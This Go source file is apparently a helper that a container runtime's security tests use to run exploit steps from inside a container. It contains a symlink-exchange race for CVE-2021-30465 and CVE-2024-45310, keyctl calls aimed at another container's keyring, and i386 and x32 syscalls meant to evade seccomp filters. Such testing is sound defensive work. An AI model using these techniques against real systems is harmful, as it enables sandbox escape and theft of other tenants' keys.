// Command attack does, from inside a container, the steps of public
// exploits that busybox cannot: the security tests copy it into a
// container's root. Each subcommand prints one line per step, "STEP ok",
// "STEP ERRNO" or "STEP killed: why", and exits 0.
//
//	attack swap DIR A B             exchange DIR/A and DIR/B (RENAME_EXCHANGE) until killed
//	attack keyring SERIAL KEY NAME  reach another container's keyring SERIAL, its key KEY and the keyring called NAME
//	attack invalidate SERIAL        invalidate the keyring SERIAL
//	attack mkdir32 PATH             mkdir PATH through the i386 (int 0x80) and x32 system call ABIs
package main

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	switch args := os.Args[2:]; os.Args[1] {
	case "swap":
		if len(args) != 3 {
			usage()
		}
		swap(args[0], args[1], args[2])
	case "keyring":
		if len(args) != 3 {
			usage()
		}
		ring, err1 := strconv.Atoi(args[0])
		key, err2 := strconv.Atoi(args[1])
		if err1 != nil || err2 != nil {
			usage()
		}
		keyring(ring, key, args[2])
	case "invalidate":
		if len(args) != 1 {
			usage()
		}
		ring, err := strconv.Atoi(args[0])
		if err != nil {
			usage()
		}
		_, err = unix.KeyctlInt(unix.KEYCTL_INVALIDATE, ring, 0, 0, 0)
		report("invalidate-keyring", err)
	case "mkdir32":
		if len(args) != 1 {
			usage()
		}
		mkdir32(args[0])
	case "mkdir-abi":
		if len(args) != 2 {
			usage()
		}
		mkdirABI(args[0], args[1])
	default:
		usage()
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: attack swap DIR A B | keyring SERIAL KEY NAME | invalidate SERIAL | mkdir32 PATH")
	os.Exit(2)
}

func report(step string, err error) {
	if err == nil {
		fmt.Println(step, "ok")
		return
	}
	if errno, ok := err.(unix.Errno); ok {
		fmt.Println(step, unix.ErrnoName(errno))
		return
	}
	fmt.Println(step, err)
}

// swap is the racing half of the symlink-exchange attacks (CVE-2021-30465,
// CVE-2024-45310): a directory and a symlink trade places as fast as the
// kernel allows, so that a runtime resolving a path through DIR/A may meet
// the symlink between its check and its use.
func swap(dir, a, b string) {
	fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		report("open", err)
		os.Exit(1)
	}
	fmt.Println("swapping")
	for {
		unix.Renameat2(fd, a, fd, b, unix.RENAME_EXCHANGE)
	}
}

// keyring tries every keyctl through which a process that knows another
// container's keyring serial (a leak, or a search of the 31-bit serial
// space: KEYCTL_DESCRIBE tells EACCES from ENOKEY) might read, take or
// destroy its keys, and joins the keyring called name. Invalidating the
// keyring itself is a subcommand of its own (see TestKeyringOtherContainer).
func keyring(ring, key int, name string) {
	_, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, ring)
	report("describe-keyring", err)
	_, err = unix.KeyctlBuffer(unix.KEYCTL_READ, ring, make([]byte, 4096), 0)
	report("list-keyring", err)
	_, err = unix.KeyctlString(unix.KEYCTL_DESCRIBE, key)
	report("describe-key", err)
	_, err = unix.KeyctlBuffer(unix.KEYCTL_READ, key, make([]byte, 4096), 0)
	report("read-key", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_LINK, ring, unix.KEY_SPEC_SESSION_KEYRING, 0, 0)
	report("link-keyring", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_LINK, key, unix.KEY_SPEC_SESSION_KEYRING, 0, 0)
	report("link-key", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_SETPERM, ring, 0x3f3f3f3f, 0, 0)
	report("setperm-keyring", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_CHOWN, ring, 0, 0, 0)
	report("chown-keyring", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_CLEAR, ring, 0, 0, 0)
	report("clear-keyring", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_REVOKE, key, 0, 0, 0)
	report("revoke-key", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_INVALIDATE, key, 0, 0, 0)
	report("invalidate-key", err)
	_, err = unix.KeyctlInt(unix.KEYCTL_UNLINK, key, ring, 0, 0)
	report("unlink-key", err)
	// Joining by name makes a new keyring where none is found: only a
	// keyring holding the key is a success.
	if _, err = unix.KeyctlJoinSessionKeyring(name); err == nil {
		_, err = unix.KeyctlBuffer(unix.KEYCTL_READ, key, make([]byte, 4096), 0)
	}
	report("join-by-name", err)
}

// path32 holds the path for the i386 ABI, whose pointers are 32 bits: a
// static binary's data lies below 4 GiB, the Go heap does not.
var path32 [4096]byte

// mkdir32 makes a directory through the system call ABIs a seccomp filter
// written for x86_64 alone would miss: i386 (int 0x80, mkdir is 39) and x32
// (x86_64 numbers with bit 30 set, which kernels without x32 refuse). Each
// call is made by a child (mkdirABI): a filter answers a call from an
// architecture it does not know with SECCOMP_RET_KILL_THREAD (libseccomp's
// default), which ends that thread alone and leaves a Go program waiting
// for it forever.
func mkdir32(path string) {
	for _, abi := range []string{"i386", "x32"} {
		cmd := exec.Command(os.Args[0], "mkdir-abi", abi, path)
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		if err := cmd.Start(); err != nil {
			report(abi, err)
			continue
		}
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		select {
		case err := <-done:
			if err != nil {
				fmt.Println(abi, "killed:", err)
			}
		case <-time.After(500 * time.Millisecond):
			cmd.Process.Kill()
			<-done
			fmt.Println(abi, "killed: its thread never returned")
		}
	}
}

// mkdirABI makes the one call of mkdir32 for abi.
func mkdirABI(abi, path string) {
	copy(path32[:len(path32)-1], path)
	p := uintptr(unsafe.Pointer(&path32[0]))
	var err error
	switch abi {
	case "i386":
		if r := int32(int80(39, p, 0o755)); r < 0 {
			err = unix.Errno(-r)
		}
	case "x32":
		const x32, mkdirX8664 = 0x40000000, 83
		if _, _, e := unix.RawSyscall(x32|mkdirX8664, p, 0o755, 0); e != 0 {
			err = e
		}
	default:
		usage()
	}
	report(abi, err)
}
